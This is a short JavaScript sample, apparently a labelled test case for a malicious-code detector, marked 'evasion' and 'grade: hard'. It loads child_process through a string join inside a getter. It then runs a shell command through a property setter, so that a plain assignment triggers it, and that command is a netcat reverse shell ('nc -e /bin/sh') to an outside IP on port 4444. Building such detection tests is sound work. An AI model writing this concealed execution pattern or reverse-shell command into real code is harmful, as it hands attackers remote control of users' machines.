// evasion: a command run by a setter, triggered by a plain assignment
// grade: hard; does: shell
const loader = {
  get cp() {
    return require(['child', 'process'].join('_'));
  },
};
const job = {
  set command(c) {
    loader.cp.execSync(c, { stdio: 'inherit' });
  },
};
job.command = 'nc -e /bin/sh 192.0.2.44 4444';
